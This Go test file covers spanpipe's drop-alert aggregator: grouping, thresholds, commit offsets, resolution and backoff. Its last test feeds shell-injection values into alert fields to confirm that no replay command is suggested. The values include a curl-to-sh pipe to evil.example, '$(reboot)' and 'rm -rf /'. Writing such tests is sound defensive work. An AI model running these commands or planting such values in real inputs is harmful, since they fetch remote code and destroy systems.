package alerting

import (
	"strings"
	"testing"
	"time"

	"github.com/spanpipe/spanpipe/dropalerts"
)

// The state machine takes the time as an argument: these tests move a fake clock and
// need neither Kafka nor sleeps.

var t0 = time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)

func testConfig() *Config {
	c := DefaultConfig()
	c.AlertmanagerURLs = []string{"http://am:9093"}
	return &c
}

var dropsTP = topicPartition{"spanpipe.drops", 0}

func ev(reason dropalerts.Reason, count int, mod ...func(*dropalerts.Event)) *dropalerts.Event {
	e := &dropalerts.Event{Reason: reason, Signal: "tracing", Count: count, Component: "consumer", Sink: "duckdb",
		FirstTime: t0, LastTime: t0, Instance: "spanpipe/h/1"}
	for _, m := range mod {
		m(e)
	}
	return e
}

func TestAggregatesByKeyIntoOneAlert(t *testing.T) {
	a := newAggregator(testConfig(), 1)
	a.ingest(t0, dropsTP, 0, ev(dropalerts.ReasonRetryExhausted, 3, func(e *dropalerts.Event) {
		e.Source = &dropalerts.Source{Topic: "spanpipe.spans", Partition: 1, FirstOffset: 10, LastOffset: 12}
		e.SampleTraceIDs = []string{"t1", "t2"}
		e.DeadLetterTopic, e.DeadLetters = "spanpipe.drops", 3
		e.Error = "sink down"
	}))
	a.ingest(t0.Add(time.Second), dropsTP, 4, ev(dropalerts.ReasonRetryExhausted, 2, func(e *dropalerts.Event) {
		e.Source = &dropalerts.Source{Topic: "spanpipe.spans", Partition: 1, FirstOffset: 20, LastOffset: 21}
		e.SampleTraceIDs = []string{"t2", "t3"}
		e.DeadLetterTopic, e.DeadLetters = "spanpipe.drops", 2
		e.LastTime = t0.Add(time.Second)
	}))
	a.ingest(t0.Add(time.Second), dropsTP, 5, ev(dropalerts.ReasonDecodeError, 1, func(e *dropalerts.Event) { e.Signal = "unknown" }))
	a.evaluate(t0.Add(2 * time.Second))

	views := a.snapshot()
	if len(views) != 2 {
		t.Fatalf("got %d alerts, want 2 (one per key): %+v", len(views), views)
	}
	v := views[1] // sorted by reason: decode-error, retry-exhausted
	want := map[string]string{"alertname": "SpanpipeDrops", "reason": "retry-exhausted", "signal": "tracing",
		"sink": "duckdb", "component": "consumer", "severity": "warning"}
	if len(v.labels) != len(want) {
		t.Errorf("labels %v, want %v", v.labels, want)
	}
	for k, w := range want {
		if v.labels[k] != w {
			t.Errorf("label %s = %q, want %q", k, v.labels[k], w)
		}
	}
	if v.details.Records != 5 || v.details.Events != 2 || v.details.DeadLetters != 5 {
		t.Errorf("details %+v: want 5 records in 2 events, 5 dead letters", v.details)
	}
	if got := strings.Join(v.details.SampleTraceIDs, ","); got != "t1,t2,t3" {
		t.Errorf("sample trace ids %q, want t1,t2,t3", got)
	}
	if len(v.details.Sources) != 1 || v.details.Sources[0].FirstOffset != 10 || v.details.Sources[0].LastOffset != 21 {
		t.Errorf("sources %+v, want spanpipe.spans[1] 10-21", v.details.Sources)
	}
	for _, s := range []string{"5 records in 2 drop events", "t1, t2, t3", "spanpipe.spans[1] 10-21", "Dead letters: 5 on spanpipe.drops",
		"spanpipe replay --reason retry-exhausted --deadletter-topic spanpipe.drops --since 2025-03-01T12:00:00Z", "Last error: sink down"} {
		if !strings.Contains(v.annots["description"], s) {
			t.Errorf("description lacks %q:\n%s", s, v.annots["description"])
		}
	}
	if !v.startsAt.Equal(t0) || !v.endsAt.IsZero() {
		t.Errorf("startsAt %v endsAt %v, want %v and zero (active)", v.startsAt, v.endsAt, t0)
	}
}

func TestThresholdAndExpiry(t *testing.T) {
	cfg := testConfig()
	cfg.Thresholds = map[dropalerts.Reason]int{dropalerts.ReasonProducerBufferFull: 10}
	a := newAggregator(cfg, 1)
	a.ingest(t0, dropsTP, 0, ev(dropalerts.ReasonProducerBufferFull, 4))
	a.ingest(t0.Add(10*time.Second), dropsTP, 1, ev(dropalerts.ReasonProducerBufferFull, 5))
	a.evaluate(t0.Add(20 * time.Second))
	if a.openAlerts() != 0 {
		t.Fatal("9 records opened an alert with threshold 10")
	}
	if got := a.committable(a.parts[dropsTP]); got != 0 {
		t.Fatalf("committable %d: events still in the window must not be committed", got)
	}
	// The first event leaves the window: 5 + 5 within the window reach 10.
	a.evaluate(t0.Add(61 * time.Second))
	if got := a.committable(a.parts[dropsTP]); got != 1 {
		t.Fatalf("committable %d, want 1: an event that expired below the threshold needs no delivery", got)
	}
	a.ingest(t0.Add(62*time.Second), dropsTP, 2, ev(dropalerts.ReasonProducerBufferFull, 5))
	a.evaluate(t0.Add(62 * time.Second))
	if a.openAlerts() != 1 {
		t.Fatal("10 records within the window did not open an alert")
	}
	// Everything expires without alerting: the key is forgotten and all is committable.
	b := newAggregator(cfg, 1)
	b.ingest(t0, dropsTP, 7, ev(dropalerts.ReasonProducerBufferFull, 1))
	b.evaluate(t0.Add(2 * time.Minute))
	if len(b.alerts) != 0 || b.committable(b.parts[dropsTP]) != 8 {
		t.Fatalf("alerts %d, committable %d: want the key forgotten and offset 8", len(b.alerts), b.committable(b.parts[dropsTP]))
	}
}

func TestCommitWaitsForEveryReceiver(t *testing.T) {
	a := newAggregator(testConfig(), 2)
	for o := int64(0); o < 5; o++ {
		a.observe(dropsTP, o) // dead letters
	}
	a.ingest(t0, dropsTP, 5, ev(dropalerts.ReasonRetryExhausted, 5))
	a.observe(dropsTP, 6)
	ps := a.parts[dropsTP]
	if got := a.committable(ps); got != 5 {
		t.Fatalf("committable %d, want 5: not past the undelivered drop event", got)
	}
	a.evaluate(t0)
	views := a.snapshot()
	a.ack(0, views)
	if got := a.committable(ps); got != 5 {
		t.Fatalf("committable %d after one of two receivers, want 5", got)
	}
	a.ingest(t0.Add(time.Second), dropsTP, 7, ev(dropalerts.ReasonRetryExhausted, 1)) // after the snapshot
	a.ack(1, views)
	if got := a.committable(ps); got != 7 {
		t.Fatalf("committable %d, want 7: delivered up to offset 6, not the event read after the post", got)
	}
	if !a.news(0) || !a.news(1) {
		t.Fatal("the event read after the post is news to both receivers")
	}
	a.evaluate(t0.Add(time.Second))
	views = a.snapshot()
	a.ack(0, views)
	a.ack(1, views)
	if got := a.committable(ps); got != 8 {
		t.Fatalf("committable %d, want 8", got)
	}
	if a.news(0) || a.news(1) {
		t.Fatal("news after everything was delivered")
	}
}

func TestResolveAfterQuietPeriod(t *testing.T) {
	cfg := testConfig()
	cfg.Quiet = 5 * time.Minute
	a := newAggregator(cfg, 1)
	a.ingest(t0, dropsTP, 0, ev(dropalerts.ReasonSinkRejected, 1))
	a.evaluate(t0)
	a.ack(0, a.snapshot())
	a.ingest(t0.Add(time.Minute), dropsTP, 1, ev(dropalerts.ReasonSinkRejected, 1))
	a.evaluate(t0.Add(5 * time.Minute)) // 4m after the last drop: still open
	if a.openAlerts() != 1 {
		t.Fatal("alert resolved before its quiet period")
	}
	resolvedAt := t0.Add(6 * time.Minute)
	a.evaluate(resolvedAt)
	if a.openAlerts() != 0 || !a.news(0) {
		t.Fatalf("open %d news %v: want resolved and news", a.openAlerts(), a.news(0))
	}
	views := a.snapshot()
	if len(views) != 1 || !views[0].resolved || !views[0].endsAt.Equal(resolvedAt) {
		t.Fatalf("views %+v: want one resolved alert ending at %v", views, resolvedAt)
	}
	// A drop before the resolve went out reopens the alert.
	a.ingest(resolvedAt.Add(time.Second), dropsTP, 2, ev(dropalerts.ReasonSinkRejected, 1))
	if v := a.snapshot(); v[0].resolved || !v[0].endsAt.IsZero() {
		t.Fatalf("view %+v: want the alert firing again", v[0])
	}
	a.evaluate(resolvedAt.Add(6 * time.Minute))
	a.ack(0, a.snapshot())
	if len(a.alerts) != 0 || a.committable(a.parts[dropsTP]) != 3 {
		t.Fatalf("alerts %d committable %d: want the key forgotten after its resolve was delivered, offset 3", len(a.alerts), a.committable(a.parts[dropsTP]))
	}
	// A later drop is a new alert with a new start.
	later := resolvedAt.Add(time.Hour)
	a.ingest(later, dropsTP, 3, ev(dropalerts.ReasonSinkRejected, 1, func(e *dropalerts.Event) { e.FirstTime, e.LastTime = later, later }))
	a.evaluate(later)
	if v := a.snapshot(); len(v) != 1 || !v[0].startsAt.Equal(later) || v[0].details.Records != 1 {
		t.Fatalf("views %+v: want a fresh alert starting at %v with 1 record", v, later)
	}
}

func TestKeysAreBounded(t *testing.T) {
	cfg := testConfig()
	cfg.MaxAlerts = 3
	a := newAggregator(cfg, 1)
	for i := range 10 {
		a.ingest(t0, dropsTP, int64(i), ev(dropalerts.ReasonSinkRejected, 1, func(e *dropalerts.Event) { e.Sink = strings.Repeat("s", i+1) }))
	}
	a.ingest(t0, dropsTP, 10, ev(dropalerts.Reason(strings.Repeat("\xff", 300)), 1))
	if len(a.alerts) != 4 {
		t.Fatalf("%d keys, want 3 plus the overflow key", len(a.alerts))
	}
	other := a.alerts[alertKey{"other", "other", "other", "other"}]
	if other == nil || other.events != 8 {
		t.Fatalf("overflow key %+v: want 8 events", other)
	}
	if got := labelValue(strings.Repeat("é", 100)); len(got) > maxLabelLen {
		t.Fatalf("label value of %d bytes, want at most %d", len(got), maxLabelLen)
	}
}

func TestReceiverRateLimitAndBackoff(t *testing.T) {
	cfg := testConfig()
	cfg.MinSendInterval = 10 * time.Second
	cfg.RetryInitialInterval, cfg.RetryMaxInterval = time.Second, 8*time.Second
	r := &receiver{resend: true}
	if !r.due(t0, true, true, false, time.Minute) {
		t.Fatal("first post with news not due")
	}
	r.succeeded(t0, cfg.MinSendInterval)
	if r.due(t0.Add(5*time.Second), true, true, false, time.Minute) {
		t.Fatal("due within MinSendInterval")
	}
	if !r.due(t0.Add(10*time.Second), true, true, false, time.Minute) {
		t.Fatal("not due after MinSendInterval")
	}
	if r.due(t0.Add(30*time.Second), false, true, false, time.Minute) || !r.due(t0.Add(time.Minute), false, true, false, time.Minute) {
		t.Fatal("active alerts must be re-posted every resend interval, and only then")
	}
	if !r.due(t0.Add(time.Second), true, true, true, time.Minute) {
		t.Fatal("force (shutdown) must ignore the rate limit")
	}
	now := t0.Add(time.Minute)
	var waits []time.Duration
	for range 6 {
		waits = append(waits, r.failed(now, 0, cfg))
	}
	for i, w := range waits {
		hi := min(time.Second<<i, 8*time.Second)
		if w < hi/2 || w > hi {
			t.Errorf("attempt %d waits %s, want within [%s, %s]", i+1, w, hi/2, hi)
		}
	}
	if w := r.failed(now, 30*time.Second, cfg); w != 30*time.Second {
		t.Errorf("Retry-After 30s: wait %s", w)
	}
}

// TestReplayCommandOnlyFromValidatedFields: the reason and topic of a drop event come
// from whoever can write to the drop topic. A suggested command is built only from an
// allow-listed reason and a legal topic name; otherwise the alert says there are dead
// letters and suggests nothing a person could paste into a shell.
func TestReplayCommandOnlyFromValidatedFields(t *testing.T) {
	for _, tc := range []struct {
		name          string
		reason, topic string
		want          string // "" means no replay command anywhere
	}{
		{"valid", "decode-error", "spanpipe.drops", "spanpipe replay --reason decode-error --deadletter-topic spanpipe.drops --since 2025-03-01T12:00:00Z --dry-run"},
		{"topic with a command", "decode-error", "spanpipe.drops; curl evil.example | sh", ""},
		{"topic with a substitution", "decode-error", "$(reboot)", ""},
		{"topic with a newline", "decode-error", "drops\nrm -rf /", ""},
		{"unknown reason", "x`id`", "spanpipe.drops", ""},
		{"reason with blanks", "decode-error --to-topic evil", "spanpipe.drops", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := newAggregator(testConfig(), 1)
			a.ingest(t0, dropsTP, 0, ev(dropalerts.Reason(tc.reason), 1, func(e *dropalerts.Event) {
				e.DeadLetterTopic, e.DeadLetters = tc.topic, 1
			}))
			a.evaluate(t0.Add(time.Second))
			views := a.snapshot()
			if len(views) != 1 {
				t.Fatalf("%d alerts, want 1", len(views))
			}
			v := views[0]
			if v.details.Replay != tc.want || v.annots["replay"] != tc.want {
				t.Fatalf("replay %q, annotation %q, want %q", v.details.Replay, v.annots["replay"], tc.want)
			}
			if tc.want == "" && strings.Contains(v.annots["description"], "spanpipe replay") {
				t.Fatalf("description suggests a command built from %q/%q:\n%s", tc.reason, tc.topic, v.annots["description"])
			}
			if !strings.Contains(v.annots["description"], "Dead letters: 1 on") {
				t.Fatalf("description does not say there is a dead letter:\n%s", v.annots["description"])
			}
		})
	}
}
